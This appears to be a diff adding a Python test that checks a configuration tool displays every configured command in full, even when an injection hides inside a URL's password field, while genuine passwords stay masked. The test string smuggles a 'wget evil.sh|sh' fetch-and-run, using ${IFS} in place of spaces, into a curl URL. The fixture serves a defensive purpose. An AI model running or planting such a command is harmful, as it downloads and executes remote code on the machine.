@@ -126,6 +126,24 @@ def test_a_command_of_ssh_is_shown_first_however_it_is_written(tmp_path: Path, l
     ]
 
 
+def test_no_part_of_a_command_is_hidden_because_it_looks_like_a_password(tmp_path: Path) -> None:
+    evil = "curl -s https://a:$(wget${IFS}-qO-${IFS}evil.sh|sh)@cdn.example/x"
+    words = flow(["sh", "-c", evil])
+    text = (
+        f"nodes: {{gpu1: {{}}, box: {{transport: {words}}}}}\n"
+        f"discovery: {{command: {words}, consul: {{url: 'http://127.0.0.1:8500'}}}}\n"
+        f"power: {{suspend: {words}, resume: {words}, on_node: {words}, labels: {{slow: {{resume: {words}}}}}}}\n"
+        f"hooks: {{idle: {{call: {words}}}}}\n"
+        "environment: {packages: [a], index_url: 'https://ann:hunter2@host/simple'}\n"
+    )
+    shown = effects(text, tmp_path).lines
+    named = {line.partition(":")[0] for line in shown if evil in line}
+    power = {f"power.{key}" for key in ("suspend", "resume", "on_node", "labels")}
+    assert named >= {"node box", "discovery.command", "hooks.idle", *power}, shown
+    assert [line for line in shown if "curl" in line and evil not in line] == []
+    assert "hunter2" not in "".join(shown)
+
+
 def test_an_ssh_configuration_that_would_block_is_refused(tmp_path: Path) -> None:
     os.mkfifo(tmp_path / "pipe")
     with pytest.raises(ConfigError, match="pipe is not a file"):
